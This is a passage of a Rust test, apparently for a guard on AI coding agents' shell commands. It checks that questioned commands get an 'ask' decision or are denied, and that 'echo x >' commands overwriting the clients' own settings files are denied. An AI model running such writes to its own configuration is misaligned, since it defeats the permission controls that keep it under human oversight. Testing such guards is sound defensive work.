            asked.refusal.clone().unwrap_or_default()
        );
        if name == "claude" {
            assert!(all.contains(r#""permissionDecision":"ask""#), "{name}: {all}");
        } else if name == "copilot" {
            // Of this question a yes would run another form.
            assert!(client.canary.is_denied(&asked) && all.contains("--force-with-lease"), "{all}");
        } else {
            assert!(client.canary.is_denied(&asked), "{name}: {all}");
            assert!(all.contains("asks nobody") && all.contains("doing it in a terminal"), "{name}: {all}");
        }
        for (_, place) in client.places.settings {
            let ClientPath::Folder(file) = place else { continue };
            let path = environment.home().join(client.places.folder).join(file);
            let touched = call(&format!("echo x > {}", path.display()));
            assert!(client.canary.is_denied(&touched), "{name}: {path:?}: {touched:?}");
        }
    }
}
